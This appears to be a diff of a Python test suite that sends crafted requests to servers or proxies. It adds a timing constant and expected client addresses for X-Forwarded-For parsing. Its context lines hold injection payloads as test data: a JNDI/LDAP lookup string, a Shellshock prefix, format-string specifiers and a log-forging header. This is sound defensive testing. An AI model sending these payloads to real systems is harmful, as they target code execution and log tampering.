@@ -12,6 +12,9 @@ CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(range(1, 33)) + b
 # How long the servers wait for a client and for a backend; see their configurations.
 CLIENT_TIMEOUT, SERVER_TIMEOUT = 2.0, 1.0
 PAUSE = 0.3
+# The timeout for a request runs from the connection on, and its time from the first byte: it comes later where much
+# else is to do.
+LATE_BYTE = 0.5
 
 HEADERS = [
     get("plain"),
@@ -47,8 +50,12 @@ HEADERS = [
     get("jndi", headers={"User-Agent": b"${jndi:ldap://192.0.2.1/a}", "Referer": b"() { :;}; echo"}),
     get("percent", headers={"User-Agent": b"100% %22 %s %n"}),
     get("long agent", headers={"User-Agent": b"A" * 1000}),
-    get("forwarded", headers={"X-Forwarded-For": b"203.0.113.9"}),
-    get("forwarded list", headers={"X-Forwarded-For": b"unknown, 203.0.113.9, 2001:db8::1,  198.51.100.7:4711"}),
+    get("forwarded", headers={"X-Forwarded-For": b"203.0.113.9"}, proxied="203.0.113.9"),
+    get("forwarded list", headers={"X-Forwarded-For": b"unknown, 203.0.113.9, 2001:db8::1,  198.51.100.7:4711"},
+        proxied="198.51.100.7"),
+    get("forwarded private", headers={"X-Forwarded-For": b"192.0.2.66, 203.0.113.9, 10.0.0.1"}, proxied="203.0.113.9"),
+    get("forwarded ipv6", headers={"X-Forwarded-For": b"192.0.2.66, [2001:db8::7]:4711"}, proxied="2001:db8::7"),
+    # Nobody vouches for what stands beside junk: the client is who connected.
     get("forwarded forged", headers={"X-Forwarded-For": b'127.0.0.1" 200 "x, ${x}, _hidden'}),
     get("no host", headers={"Host": None}),
     get("odd host", headers={"Host": b'sh"op'}),
@@ -114,7 +121,7 @@ REQUEST_LINES = [
     raw("half a head", b"GET /half-head HTTP/1.1\r\nHost: shop.example\r\n", {"Host": b"shop.example"}, half_close=True,
         unanswered={N: 400}),
     raw("timeout", b"GET /timeout HTTP/1.1\r\nHost: sh", unanswered={N: 408},
-        takes={N: CLIENT_TIMEOUT, H: CLIENT_TIMEOUT}),
+        takes={N: CLIENT_TIMEOUT - LATE_BYTE, H: CLIENT_TIMEOUT - LATE_BYTE}),
 ]
 
 USERS = [
